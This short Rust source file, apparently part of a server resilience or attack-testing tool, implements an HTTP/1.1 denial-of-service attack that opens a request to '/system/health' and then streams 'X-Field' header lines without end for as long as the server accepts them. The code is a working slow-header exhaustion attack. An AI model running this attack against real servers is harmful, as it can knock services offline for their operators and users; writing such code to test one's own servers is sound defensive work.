//! HTTP/1.1 headers with fields without end.

use super::super::attacker::{Attacker, Sent, end, send};
use super::super::ends::Ends;

/// Sends field after field.
pub(super) async fn attack(attacker: &Attacker) -> Ends {
    attacker.with_each(|attacker, stream| endless(attacker, stream, "X-Field: nothing\r\n")).await
}

/// Sends the beginning of a request, and then `field` as long as somebody takes it.
pub(super) async fn endless(attacker: Attacker, mut stream: tokio::net::TcpStream, field: &str) -> Ends {
    send(&mut stream, attacker.head("GET", "/system/health").as_bytes()).await;
    let fields = field.repeat(20);
    while !attacker.is_over() && send(&mut stream, fields.as_bytes()).await == Sent::Taken {
        tokio::task::yield_now().await;
    }
    end(&attacker, &mut stream).await.into()
}
